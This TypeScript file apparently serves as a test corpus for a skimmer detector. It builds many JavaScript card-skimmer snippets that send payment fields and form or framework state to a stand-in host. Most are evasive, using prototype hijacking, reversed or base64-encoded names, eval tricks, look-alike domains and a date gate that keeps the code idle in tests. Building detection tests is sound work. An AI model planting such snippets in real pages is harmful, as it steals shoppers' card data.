// Skimmers whose data, address or code is not named where it is used, or waits for what a test run does not have.
import { skimmerHost } from './skimmer.ts'

const url = `https://${skimmerHost}/`
const send = `navigator.sendBeacon("//${skimmerHost}", pay.number)`
const reversed = (text: string) => JSON.stringify([...text].toReversed().join(''))
const onClick = (code: string) => `addEventListener("click", () => { ${code} })`
const gated = (code: string) => `if (Date.now() > 4e12) { ${code} }`

/** What is sent comes from where no field is named. */
const sources: [name: string, code: string][] = [
  [
    'formdata event',
    `document.forms[0].addEventListener("formdata", ({ formData }) => { const o = {}; formData.forEach((v, k) => (o[k] = v)); fetch("${url}", { body: JSON.stringify(o) }) })`,
  ],
  [
    'properties of React',
    `setInterval(() => { for (const n of document.querySelectorAll("input")) { const k = Object.keys(n).find((k) => k.startsWith("__react")); if (k) fetch("${url}", { body: n[k].value }) } }, 3000)`,
  ],
  [
    'data of Vue',
    `setInterval(() => { var d = document.querySelector("#app").__vue__.$data; if (d) $.post("${url}", d.payment) }, 4000)`,
  ],
  [
    'scope of Angular',
    onClick(
      `var s = angular.element(document.querySelector("[ng-controller]")).scope(); $.get("${url}", s.card)`,
    ),
  ],
  ['state of a store', `store.subscribe(() => fetch("${url}", { body: store.getState().payment }))`],
  [
    'module of a shop',
    `require(["quote", "jquery"], function (q, $) { q.method.subscribe(function () { $.post("${url}", $("#payment").serializeArray()) }) })`,
  ],
  [
    'options of every request',
    `Object.prototype.beforeSend = function (x, s) { new Image().src = "${url}?" + s.data }`,
  ],
  [
    'method of every list',
    `const m = Array.prototype.map; Array.prototype.map = function (f) { for (const x of this) if (/card/.test(x.name)) fetch("${url}" + x.text); return m.call(this, f) }`,
  ],
  [
    'label',
    `document.querySelectorAll("label").forEach((l) => { l.control.oninput = () => fetch("${url}?" + l.control.value) })`,
  ],
  [
    'element by its global name',
    `document.onfocusout = () => { fetch("${url}?" + cardnumber.value + cvv.value) }`,
  ],
  [
    'messages of the console',
    `const l = console.log; console.log = (...a) => { l(...a); fetch("${url}", { body: JSON.stringify(a) }) }`,
  ],
]

/** Something passes the data on, so that what is sent looks harmless. */
const carriers: [name: string, code: string][] = [
  ['helper', `function s(u) { new Image().src = u + top.pay.number } s("${url}?v=1")`],
  [
    'object filled later',
    `const d = { w: screen.width }; ${onClick(`d.c = pay.number; fetch("${url}", { body: JSON.stringify(d) })`)}`,
  ],
  [
    'object under two names',
    `const d = { w: screen.width }, e = d; ${onClick(`e.c = pay.number; fetch("${url}", { body: JSON.stringify(d) })`)}`,
  ],
  [
    'object filled by a function',
    `const d = {}; const f = (o) => { o.x = pay.number }; ${onClick(`f(d); fetch("${url}", { body: JSON.stringify(d) })`)}`,
  ],
  [
    'list',
    `const d = [screen.width]; ${onClick(`d.push(pay.number); navigator.sendBeacon("${url}", d.join())`)}`,
  ],
  ['title', onClick(`document.title = pay.number; navigator.sendBeacon("${url}", document.title)`)],
  [
    'title element',
    onClick(
      `document.querySelector("title").textContent = pay.number; navigator.sendBeacon("${url}", document.title)`,
    ),
  ],
  [
    'address of the page',
    onClick(`history.replaceState(0, "", "#" + pay.number); navigator.sendBeacon("${url}", location.href)`),
  ],
  ['referrer', onClick(`history.replaceState(0, "", "?" + pay.number); new Image().src = "${url}p.gif"`)],
  [
    'property of the navigator',
    `Object.defineProperty(navigator, "x", { get: () => pay.number }); ${onClick(`navigator.sendBeacon("${url}", navigator.x)`)}`,
  ],
  ['function of Math', `Math.z = () => pay.number; ${onClick(`navigator.sendBeacon("${url}", Math.z())`)}`],
  [
    'how dates are written',
    `Date.prototype.toJSON = () => pay.number; ${onClick(`navigator.sendBeacon("${url}", JSON.stringify(new Date()))`)}`,
  ],
  ['getter', onClick(`fetch("${url}", { method: "POST", get body() { return pay.number } })`)],
  [
    'header',
    onClick(
      `const x = new XMLHttpRequest(); x.open("POST", "${url}"); x.setRequestHeader("x-a", pay.number); x.send()`,
    ),
  ],
  [
    'bound socket',
    `const w = new WebSocket("wss://${skimmerHost}/"); const s = w.send.bind(w); ${onClick('s(pay.number)')}`,
  ],
  [
    'bound request',
    `const f = fetch.bind(null, "${url}"); ${onClick('f({ method: "POST", body: pay.number })')}`,
  ],
]

/** The address is written so that it does not look like one. */
const addresses: [name: string, code: string][] = [
  [
    'host of an address',
    onClick(`const u = new URL("/x", location); u.host = "${skimmerHost}"; u.search = pay.number; fetch(u)`),
  ],
  ['host of the page', onClick(`location.hash = pay.number; location.host = "${skimmerHost}"`)],
  [
    'host in an object',
    `const o = { host: "${skimmerHost}" }; ${onClick('const u = new URL(location); Object.assign(u, o); fetch(u, { body: pay.number })')}`,
  ],
  [
    'base of the page',
    `const b = document.createElement("base"); b.href = "${url}"; document.head.prepend(b)`,
  ],
  ['thrown', onClick(`try { throw "${url}?" } catch (u) { fetch(u + pay.number) }`)],
  [
    'message of an error',
    onClick(`try { throw new Error("${url}?") } catch (e) { fetch(e.message + pay.number) }`),
  ],
  [
    'split',
    `const [a, b] = "${url}|POST".split("|"); ${onClick('fetch(a, { method: b, body: pay.number })')}`,
  ],
  ['replaced', onClick(`fetch("${url}X".replace("X", pay.number))`)],
  ['source of a pattern', onClick(`fetch(/${skimmerHost}/.source.replace(/^/, "//") + pay.number)`)],
  ['symbol', onClick(`fetch(Symbol("${url}").description + pay.number)`)],
  [
    'attribute of the script',
    onClick('fetch(document.currentScript.dataset.u, { method: "POST", body: pay.number })'),
  ],
  ['backslashes', onClick(`fetch("https:\\\\\\\\${skimmerHost}\\\\" + pay.number)`)],
  ['slash and backslash', onClick(`new Image().src = "/\\\\${skimmerHost}/" + pay.number`)],
  ['no slashes', onClick(`fetch("https:${skimmerHost}/" + pay.number)`)],
  ['tab', onClick(`fetch("ht\\ttps://${skimmerHost}/" + pay.number)`)],
  ['IPv6', onClick('fetch("http://[2001:db8::1]/" + pay.number)')],
  ['user name like a known site', onClick(`fetch("https://w3.org@${skimmerHost}/" + pay.number)`)],
  ['subdomain like a known site', onClick(`fetch("https://www.w3.org.${skimmerHost}/" + pay.number)`)],
  ['subdomain like this shop', onClick(`fetch("https://shop.example.${skimmerHost}/" + pay.number)`)],
]

const decoder = 'const k = (s) => s.split("").reverse().join("");'
const hiddenNames = (w: string) =>
  `${decoder} ${gated(`const w = ${w}; w[k(${reversed('document')})][k(${reversed('addEventListener')})](k(${reversed('submit')}), () => w[k(${reversed('fetch')})](k(${reversed(url)}) + w.pay.number))`)}`

/** Code that is hidden and does not run today. */
const waiting: [name: string, code: string][] = [
  ...['this', 'top', 'frames', '(function () { return this })()', 'document.defaultView'].map(
    (w): [string, string] => [`names through ${w}`, `(function () { ${hiddenNames(w)} }).call(window)`],
  ),
  ['one name', `${decoder} ${gated(`top[k(${reversed('fetch')})](k(${reversed(url)}) + pay.number)`)}`],
  [
    'names by numbers',
    `const t = "document|addEventListener|click|fetch|pay".split("|"), g = (i) => t[i - 9]; ${gated('const w = top; w[g(9)][g(10)](g(11), () => w[g(12)]("/" + w[g(13)].number))')}`,
  ],
  [
    'constructor in pieces',
    `const t = ["con", "struc", "tor", "return 1"]; ${gated('(() => {})[t[0] + t[1] + t[2]](t[3])()')}`,
  ],
  ['decoded HTML', gated(`document.body.innerHTML += atob("${btoa(`<img src=x onerror='${send}'>`)}")`)],
  [
    'HTML with a handler',
    gated(
      `document.body.insertAdjacentHTML("beforeend", '<im' + 'g src=x on' + 'error="' + atob("${btoa(send)}") + '">')`,
    ),
  ],
  ['handler', gated(`document.body.setAttribute("onclick", "top[atob('ZmV0Y2g=')](pay.u + pay.number)")`)],
  [
    'handler by a list',
    `const q = ["on", "click", atob]; ${gated(`document.body.setAttribute(q[0] + q[1], q[2]("${btoa(send)}"))`)}`,
  ],
  [
    'link with code',
    gated(`document.querySelector("a").href = "java" + "script:top[atob('ZmV0Y2g=')](pay.u + pay.number)"`),
  ],
  [
    'page in a frame',
    gated(`document.querySelector("iframe").srcdoc = atob("${btoa(`<script>parent.${send}</script>`)}")`),
  ],
  [
    'parsed page',
    gated(
      `document.body.append(new DOMParser().parseFromString(atob("${btoa(`<script>${send}</script>`)}"), "text/html").scripts[0])`,
    ),
  ],
  ['eval as a callback', gated(`Promise.resolve(atob("${btoa(send)}")).then(eval)`)],
  ['eval as an error handler', gated('window.onerror = eval; throw "=1;fetch(pay.u + pay.number)"')],
]

export const routes: [name: string, code: string][] = [...sources, ...carriers, ...addresses, ...waiting]
/** The same in a large script that is readable otherwise. */
export const waitingCode: [name: string, code: string][] = waiting
